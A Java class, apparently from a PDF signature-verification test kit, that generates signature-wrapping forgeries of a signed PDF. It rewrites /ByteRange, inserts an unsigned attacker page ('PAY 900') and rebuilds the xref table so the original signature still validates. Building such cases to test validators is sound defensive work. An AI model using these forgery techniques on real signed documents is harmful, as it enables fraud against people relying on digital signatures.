package org.xacthuc.attacks;

import java.util.Locale;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.xacthuc.testkit.TestPdf;

/**
 * Signature wrapping of a file that ends with its signature, whose dictionary has /Contents before
 * /ByteRange: what the attacker writes behind the string is not signed, and digest and signature
 * value still hold.
 */
final class Wrapping {
  private static final Pattern OBJECT = Pattern.compile("(?<=\n)(\\d+) 0 obj\n");

  /** The signed bytes before and behind the string, and the string. */
  private final String first;

  private final String token;
  private final String second;

  /** Where the signed end of the file says that the newest table stands. */
  private final int table;

  Wrapping(TestPdf pdf) {
    String text = pdf.text();
    int contents = text.lastIndexOf("/Contents <") + "/Contents ".length();
    token = text.substring(contents, text.indexOf('>', contents) + 1);
    first = text.substring(0, contents);
    second = text.substring(contents + token.length());
    table = Integer.parseInt(Raw.between(pdf, "startxref\n", "\n"));
  }

  /**
   * The second range moves behind the attacker's page and table, which stand where the end says.
   */
  TestPdf moved() {
    return TestPdf.of(Raw.latin1(moved(closed(range()), "")));
  }

  /** The dictionary stays open: the attacker's objects are a string in it. */
  TestPdf twoKeys() {
    return TestPdf.of(Raw.latin1(moved(range() + " /Evil (", ")")));
  }

  /** A second copy of the second range behind the first. */
  TestPdf copied() {
    return TestPdf.of(Raw.latin1(moved(closed(range()), "") + second));
  }

  /** Nothing moves: the attacker's page stands where the padding was. */
  TestPdf inPadding() {
    return inPadding("", "");
  }

  /** The gap ends as it began, with a string. */
  TestPdf reopened() {
    return inPadding("98 0 obj\n<", "0>");
  }

  private TestPdf inPadding(String before, String after) {
    String head = shortToken() + closed(range(token.length())) + page() + before;
    int room = token.length() - head.length() - after.length();
    String fill = (after.isEmpty() ? " " : "0").repeat(room);
    return TestPdf.of(Raw.latin1(first + head + fill + after + second));
  }

  private String moved(String head, String tail) {
    String start = first + shortToken() + head;
    String fill = "%" + " ".repeat(table - start.length() - page().length() - 2) + "\n";
    return start + page() + fill + table(start.length()) + tail + second;
  }

  /** What closes the dictionary right behind the string. */
  private String closed(String range) {
    String rest = second.substring(0, second.indexOf("endobj"));
    return range + rest.replaceAll("/ByteRange \\[[^\\]]*\\]", "") + "endobj\n";
  }

  private String range() {
    return range(table + table(0).length() - first.length());
  }

  private String range(int gap) {
    return String.format(
        Locale.ROOT,
        " /ByteRange [0 %d %d %d]",
        first.length(),
        first.length() + gap,
        second.length());
  }

  private String shortToken() {
    return token.replaceAll("(00)+>$", ">");
  }

  private static String page() {
    String content = Bases.words("PAY 900");
    return String.format(
        Locale.ROOT,
        "6 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n",
        content.length(),
        content);
  }

  /** Lists the attacker's page and the signed objects where they are now. */
  private String table(int page) {
    SortedMap<Integer, Integer> offsets = new TreeMap<>();
    Matcher objects = OBJECT.matcher(second);
    while (objects.find()) {
      offsets.put(Integer.valueOf(objects.group(1)), objects.start());
    }
    Set<Integer> moved = Set.copyOf(offsets.keySet());
    String trailer = second.substring(second.indexOf("trailer\n"), second.indexOf("startxref"));
    int dictionary = first.lastIndexOf(" 0 obj\n");
    int line = first.lastIndexOf('\n', dictionary) + 1;
    offsets.put(Integer.valueOf(first.substring(line, dictionary)), line);
    offsets.put(6, page);
    StringBuilder out = new StringBuilder("xref\n");
    offsets.forEach((number, offset) -> out.append(entry(number, offset)));
    int shift = table + out.length() + trailer.length();
    out.setLength(5);
    offsets.forEach(
        (number, offset) ->
            out.append(entry(number, moved.contains(number) ? offset + shift : offset)));
    return out + trailer;
  }

  private static String entry(int number, int offset) {
    return String.format(Locale.ROOT, "%d 1\n%010d 00000 n \n", number, offset);
  }
}
